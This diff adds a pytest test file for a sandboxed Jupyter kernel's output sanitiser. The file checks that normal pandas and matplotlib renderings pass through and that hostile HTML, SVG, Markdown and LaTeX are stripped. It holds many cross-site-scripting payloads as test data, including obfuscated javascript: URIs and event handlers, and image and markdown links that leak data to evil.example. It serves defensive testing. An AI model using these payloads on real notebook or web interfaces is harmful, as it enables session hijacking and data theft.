@@ -1,0 +1,356 @@
+"""The output firewall: real pandas/matplotlib outputs survive, hostile ones are neutralised.
+
+The pandas and matplotlib outputs are rendered here on the host by trusted
+test code (no cell code runs).
+"""
+
+from __future__ import annotations
+
+import io
+import re
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from sandbox_kernel.outputs import (
+    OutputFirewall,
+    SvgError,
+    is_safe_type,
+    markdown_problems,
+    sanitize_html,
+    sanitize_svg,
+)
+
+np = pytest.importorskip("numpy")
+pd = pytest.importorskip("pandas")
+matplotlib = pytest.importorskip("matplotlib")
+matplotlib.use("agg")
+import matplotlib.pyplot as plt  # noqa: E402
+
+FW = OutputFirewall("sanitize")
+HANDLER = re.compile(r"<[^>]*\s(on[a-z]+)\s*=", re.I)
+
+
+def display(data: dict, metadata: dict | None = None) -> dict:
+    return {"data": data, "metadata": metadata or {}, "transient": {}}
+
+
+def normalise(html: str) -> str:
+    return re.sub(r"\s+", "", html)
+
+
+# ---------------------------------------------------------------------------
+# Ordinary outputs survive
+# ---------------------------------------------------------------------------
+
+
+def test_pandas_table_survives_except_its_style_block():
+    df = pd.DataFrame({"a": [1, 2], "b": ["x<y", "z & w"], "c": [1.5, np.nan]}, index=["r1", "r2"])
+    html = df._repr_html_()
+    content, notices = FW.filter("execute_result", {"data": {"text/html": html, "text/plain": repr(df)},
+                                                     "metadata": {}, "execution_count": 1})
+    clean = content["data"]["text/html"]
+    assert notices == []  # dropping pandas' cosmetic <style> is silent
+    assert "<style" not in clean and "<table" in clean and 'class="dataframe"' in clean
+    expected = re.sub(r"<style.*?</style>", "", html, flags=re.S).replace("text-align: right;", "text-align:right")
+    assert normalise(clean) == normalise(expected)
+    assert content["data"]["text/plain"] == repr(df)
+
+
+def test_pandas_styler_keeps_table_and_cell_values():
+    pytest.importorskip("jinja2")
+    df = pd.DataFrame(np.arange(6).reshape(3, 2), columns=["x", "y"])
+    html = df.style.format("{:.1f}").set_caption("Cap")._repr_html_()
+    clean = sanitize_html(html)
+    for cell in ("0.0", "5.0", "Cap", "<table", "<caption"):
+        assert cell in clean
+    assert "<style" not in clean and " id=" not in clean
+
+
+def test_matplotlib_svg_survives():
+    fig, ax = plt.subplots()
+    ax.plot([1, 2, 3], [3, 1, 2], "o-", label="line")
+    ax.set_title("T <&>")
+    ax.legend()
+    ax.imshow(np.random.default_rng(0).random((4, 4)), extent=(1, 2, 1, 2))
+    buf = io.StringIO()
+    fig.savefig(buf, format="svg")
+    plt.close(fig)
+    svg = buf.getvalue()
+    content, notices = FW.filter("display_data", display({"image/svg+xml": svg, "text/plain": "<Figure>"}))
+    clean = content["data"]["image/svg+xml"]
+    assert notices == []
+    for tag in ("path", "use", "image", "clipPath", "g", "style", "defs"):
+        assert len(re.findall(rf"<{tag}\b", clean)) == len(re.findall(rf"<{tag}\b", svg)), tag
+    assert 'xlink:href="data:image/png;base64' in clean
+    assert 'clip-path="url(#' in clean and 'viewBox="0 0' in clean
+
+
+def test_matplotlib_png_and_safe_types_pass_unchanged():
+    fig, ax = plt.subplots()
+    ax.plot([1, 2])
+    buf = io.BytesIO()
+    fig.savefig(buf, format="png")
+    plt.close(fig)
+    import base64
+    bundle = {
+        "image/png": base64.b64encode(buf.getvalue()).decode(),
+        "text/plain": "<Figure size 640x480 with 1 Axes>",
+        "image/jpeg": "AAAA", "image/gif": "R0lG",
+        "application/json": {"a": [1, 2]},
+        "application/vnd.plotly.v1+json": {"data": [], "layout": {}},
+        "application/vnd.vegalite.v5+json": {"mark": "bar"},
+        "application/vnd.vega.v5+json": {"marks": []},
+        "application/vnd.jupyter.widget-view+json": {"model_id": "abc", "version_major": 2, "version_minor": 0},
+        "text/latex": r"$\frac{a}{b}$",
+        "text/markdown": "# Title\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n`x < y` and <b>bold</b><br>",
+    }
+    content = display(bundle, {"image/png": {"width": 100}})
+    out, notices = FW.filter("display_data", content)
+    assert out is content and notices == []
+
+
+def test_trust_passes_everything():
+    fw = OutputFirewall("trust")
+    content = display({"application/javascript": "alert(1)", "text/html": "<script>x</script>"})
+    assert fw.filter("display_data", content) == (content, [])
+    payload = [{"source": "page", "data": {"text/html": "<script>x</script>"}}]
+    assert fw.filter_payload(payload) == (payload, [])
+
+
+def test_other_message_types_untouched_and_bad_policy_refused():
+    content = {"name": "stdout", "text": "<script>alert(1)</script>"}
+    assert FW.filter("stream", content) == (content, [])
+    assert FW.filter("display_data", {"data": "not a dict"}) == ({"data": "not a dict"}, [])
+    with pytest.raises(ValueError, match="output_policy"):
+        OutputFirewall("loose")
+
+
+# ---------------------------------------------------------------------------
+# Hostile outputs
+# ---------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("mime", ["application/javascript", "text/javascript", "application/x-javascript",
+                                  "Application/JavaScript; charset=utf-8", "application/ecmascript"])
+def test_javascript_dropped_with_notice(mime):
+    content = display({mime: "fetch('/api/terminals',{method:'POST'})", "text/plain": "<IPython.Javascript>"},
+                      {mime: {"x": 1}})
+    out, notices = FW.filter("display_data", content)
+    assert out["data"] == {"text/plain": "<IPython.Javascript>"} and out["metadata"] == {}
+    assert len(notices) == 1
+    assert notices[0].startswith("sandbox-kernel: removed ")
+    assert "javascript" in notices[0].lower() or "ecmascript" in notices[0]
+    assert "--SandboxKernel.output_policy=trust" in notices[0]
+    assert content["data"][mime]  # input not modified in place
+
+
+def test_dropping_everything_leaves_a_plain_notice():
+    out, notices = FW.filter("execute_result", {"data": {"application/javascript": "alert(1)"},
+                                                "metadata": {}, "execution_count": 3})
+    assert list(out["data"]) == ["text/plain"]
+    assert "removed application/javascript" in out["data"]["text/plain"]
+    assert out["execution_count"] == 3 and notices
+
+
+def test_unknown_types_dropped_widget_view_kept():
+    out, notices = FW.filter("display_data", display({
+        "application/vnd.bokehjs_exec.v0+json": "", "application/pdf": "JVBER",
+        "application/vnd.jupyter.widget-view+json": {"model_id": "m"}}))
+    assert list(out["data"]) == ["application/vnd.jupyter.widget-view+json"]
+    assert len(notices) == 2 and all("not on the safe list" in n for n in notices)
+    assert is_safe_type("application/vnd.vegalite.v4.17+json") and not is_safe_type("application/vnd.vega.js")
+
+
+HOSTILE_HTML = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil/x.js></SCRIPT>",
+    "<ScRiPt>alert(1)</sCrIpT>",
+    "<img src=x onerror=alert(1)>",
+    "<IMG SRC=x OnErRoR=alert(1)>",
+    "<img src=x onerror\x0c=alert(1)>",
+    "<a href=\"javascript:alert(1)\">x</a>",
+    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
+    "<a href=\"&#106;&#97;vascript:alert(1)\">x</a>",
+    "<a href=\"&#x6A;avascript&colon;alert(1)\">x</a>",
+    "<a href=\"java&#x09;script:alert(1)\">x</a>",
+    "<a href=\" javascript:alert(1)\">x</a>",
+    "<a href=\"vbscript:msgbox(1)\">x</a>",
+    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg onload=alert(1)>",
+    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<iframe src=\"javascript:alert(1)\"></iframe>",
+    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
+    "<object data=\"javascript:alert(1)\"></object>",
+    "<embed src=\"data:text/html,<script>alert(1)</script>\">",
+    "<base href=\"javascript:/\">",
+    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
+    "<link rel=import href=\"//evil/x\">",
+    "<form action=\"javascript:alert(1)\"><input type=submit></form>",
+    "<button formaction=\"javascript:alert(1)\">x</button>",
+    "<div style=\"width: expression(alert(1))\">x</div>",
+    "<div style=\"background:url(javascript:alert(1))\">x</div>",
+    "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">fake dialog</div>",
+    "<style>@import 'http://evil/x.css'; body{display:none}</style>",
+    "<details open ontoggle=alert(1)>",
+    "<body onload=alert(1)>",
+    "<img src=\"http://evil.example/leak?d=secret\">",
+    "<img src=\"//evil.example/leak\">",
+    "<img src=\"/\\evil.example/leak\">",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    "<template><script>alert(1)</script></template>",
+    "<!--<img src=x onerror=alert(1)>-->",
+    "<img id=\"jp-main-dock-panel\" name=\"getElementById\" src=\"data:image/png;base64,AA\">",
+]
+
+
+@pytest.mark.parametrize("html", HOSTILE_HTML)
+def test_hostile_html_neutralised(html):
+    clean = sanitize_html(html)
+    low = clean.lower()
+    assert "<script" not in low and not HANDLER.search(clean)
+    for tag in ("<iframe", "<object", "<embed", "<base", "<meta", "<link", "<form", "<input",
+                "<button", "<style", "<svg", "<math", "<template", "<noscript"):
+        assert tag not in low
+    assert "javascript:" not in low and "vbscript:" not in low and "data:text" not in low
+    assert "expression(" not in low and "position" not in low and "url(" not in low
+    assert "evil" not in low and " id=" not in low and " name=" not in low
+    content, notices = FW.filter("display_data", display({"text/html": html}))
+    assert content["data"].get("text/html", "") == clean or "text/plain" in content["data"]
+
+
+def test_html_notice_names_what_was_removed():
+    _, notices = FW.filter("display_data", display({"text/html": "<b>ok</b><script>x</script><img src=x onerror=y>"}))
+    assert len(notices) == 1 and "sanitised text/html" in notices[0]
+    assert "<script>" in notices[0] and "event handlers" in notices[0]
+
+
+def test_data_image_in_html_kept():
+    html = '<img src="data:image/png;base64,iVBORw0KGgo=" alt="p" width="10">'
+    assert sanitize_html(html) == html
+
+
+HOSTILE_SVG = [
+    '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
+    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>',
+    '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml">'
+    '<img src="x" onerror="alert(1)"/></body></foreignObject></svg>',
+    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
+    '<a xlink:href="javascript:alert(1)"><circle r="5"/></a></svg>',
+    '<svg xmlns="http://www.w3.org/2000/svg"><animate attributeName="href" to="javascript:alert(1)"/>'
+    '<set attributeName="onmouseover" to="alert(1)"/></svg>',
+    '<svg xmlns="http://www.w3.org/2000/svg"><use href="http://evil/x.svg#a"/></svg>',
+    '<svg xmlns="http://www.w3.org/2000/svg"><image href="data:image/svg+xml,&lt;svg onload=alert(1)&gt;"/></svg>',
+    '<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(http://evil/x.css);</style></svg>',
+    '<svg xmlns="http://www.w3.org/2000/svg"><rect style="fill:url(http://evil/x)"/></svg>',
+    '<svg xmlns="http://www.w3.org/2000/svg"><rect OnClick="alert(1)" x="1"/></svg>',
+    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><g><g><script xlink:href="data:,alert(1)"/></g></g></svg>',
+]
+
+
+@pytest.mark.parametrize("svg", HOSTILE_SVG)
+def test_hostile_svg_neutralised(svg):
+    clean, removed = sanitize_svg(svg)
+    low = clean.lower()
+    assert removed
+    for bad in ("<script", "foreignobject", "javascript:", "<animate", "<set", "evil", "onload", "onclick",
+                "onmouseover", "@import", "svg onload"):
+        assert bad not in low
+    out, notices = FW.filter("display_data", display({"image/svg+xml": svg}))
+    assert notices and "image/svg+xml" in notices[0]
+
+
+@pytest.mark.parametrize("svg", [
+    '<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg">&b;</svg>',
+    "<svg xmlns='http://www.w3.org/2000/svg'><g></svg>",
+    "<html><script>alert(1)</script></html>",
+    "<svg xmlns='http://www.w3.org/2000/svg'>" + "<g>" * 50000 + "</g>" * 50000 + "</svg>",
+])
+def test_unparseable_svg_dropped(svg):
+    with pytest.raises(SvgError):
+        sanitize_svg(svg)
+    out, notices = FW.filter("display_data", display({"image/svg+xml": svg}))
+    assert "image/svg+xml" not in out["data"] and "removed image/svg+xml" in notices[0]
+
+
+@pytest.mark.parametrize("md", [
+    "hello <script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "[click](javascript:alert(1))",
+    "[click](JAVA&#83;CRIPT:alert(1))",
+    "<javascript:alert(1)>",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "![leak](https://evil.example/?d=secret)",
+    r"$\href{javascript:alert(1)}{x}$",
+    "<iframe src=//evil></iframe>",
+    "<!-- x --><div onclick='x'>y</div>",
+])
+def test_unsafe_markdown_shown_as_plain_text(md):
+    assert markdown_problems(md)
+    out, notices = FW.filter("display_data", display({"text/markdown": md}))
+    assert out["data"] == {"text/plain": md}
+    assert notices and "text/markdown" in notices[0]
+
+
+def test_latex_with_href_dropped_but_plain_kept():
+    out, notices = FW.filter("display_data", display({"text/latex": r"$\href{javascript:alert(1)}{x}$",
+                                                      "text/plain": "x"}))
+    assert out["data"] == {"text/plain": "x"} and "MathJax" in notices[0]
+
+
+def test_non_string_html_dropped():
+    out, notices = FW.filter("display_data", display({"text/html": ["<b>", "x</b>"], "text/plain": "x"}))
+    assert out["data"] == {"text/plain": "x"} and notices
+
+
+def test_page_payload_filtered_and_other_payloads_kept():
+    payload = [
+        {"source": "page", "data": {"text/html": "<b>doc</b><script>x</script>", "text/plain": "doc"}, "start": 0},
+        {"source": "set_next_input", "text": "print(1)", "replace": False},
+    ]
+    out, notices = FW.filter_payload(payload)
+    assert out[0]["data"] == {"text/html": "<b>doc</b>", "text/plain": "doc"} and out[0]["start"] == 0
+    assert out[1] is payload[1] and notices
+    assert payload[0]["data"]["text/html"].endswith("</script>")
+    clean = [{"source": "page", "data": {"text/plain": "doc"}}]
+    assert FW.filter_payload(clean) == (clean, [])
+
+
+# ---------------------------------------------------------------------------
+# Property: no script or handler survives sanitising
+# ---------------------------------------------------------------------------
+
+_pieces = st.sampled_from([
+    "<", ">", "/", "script", "SCRIPT", "sCrIpT", "img", "svg", "iframe", " ", "\t", "\n", "\x0c", "=",
+    "on", "onerror", "ONLOAD", "onmouseover", "'", '"', "`", "javascript:", "&#106;", "&lt;", "<!--",
+    "-->", "<![CDATA[", "]]>", "a", "href", "src", "x", "alert(1)", "style", "<b>", "</b>", "<p", "title",
+    "<math>", "<mtext>", "<table>", "<noscript>", "<template>", "<textarea>", "<select>", "\x00",
+])
+
+
+def _assert_safe(clean: str) -> None:
+    low = clean.lower()
+    assert "<script" not in low
+    assert not HANDLER.search(clean)
+    for tag in re.findall(r"<[^>]*>", low):  # in markup, not as text
+        assert "javascript:" not in re.sub(r"[\x00-\x20]", "", tag)
+
+
+@settings(max_examples=400, deadline=None)
+@given(st.lists(_pieces, max_size=40).map("".join))
+def test_property_sanitized_html_has_no_script_or_handlers(source):
+    clean = sanitize_html(source)
+    _assert_safe(clean)
+    assert sanitize_html(clean) == clean or _assert_safe(sanitize_html(clean)) is None
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.text(max_size=200))
+def test_property_arbitrary_text(source):
+    _assert_safe(sanitize_html(source))
+    out, _ = FW.filter("display_data", display({"text/html": source, "text/markdown": source,
+                                                "image/svg+xml": source}))
+    assert set(out["data"]) <= {"text/html", "text/markdown", "image/svg+xml", "text/plain"}
